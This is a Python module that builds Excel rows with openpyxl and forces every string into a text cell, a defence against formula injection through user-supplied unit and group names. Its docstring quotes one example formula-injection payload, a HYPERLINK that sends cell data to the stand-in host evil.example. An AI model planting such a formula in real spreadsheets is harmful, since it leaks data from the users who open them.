"""Rows for the Excel workbooks Samla makes: every text is written as text.

openpyxl takes a string that starts with "=" for a formula. Names of units, groups and
questions come from people, so ``=HYPERLINK("http://evil.example/?"&A1,"Engtun skole")``
as a unit's name would become a live formula in a results workbook. Every workbook writer
appends its rows through :func:`append_row`, which writes each string as a string cell
(``data_type`` "s"), never as a formula, and without the control characters Excel files
cannot hold.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

from samla.core.text import clean_text


def text_cell(sheet, value: str, *, bold: bool = False):
    """A cell of a write-only sheet holding ``value`` as text, whatever it starts with."""
    cell = WriteOnlyCell(sheet, value=clean_text(value))
    cell.data_type = "s"  # after the value: openpyxl has just made "=…" a formula
    if bold:
        cell.font = Font(bold=True)
    return cell


def append_row(sheet, values: Iterable[Any], *, bold: bool = False) -> None:
    """Append a row to a write-only sheet: strings as text cells, other values (numbers,
    None, cells already made) as they are; ``bold`` for a header."""
    row = []
    for value in values:
        if isinstance(value, str):
            row.append(text_cell(sheet, value, bold=bold))
        elif bold and value is not None and not isinstance(value, WriteOnlyCell):
            cell = WriteOnlyCell(sheet, value=value)
            cell.font = Font(bold=True)
            row.append(cell)
        else:
            row.append(value)
    sheet.append(row)
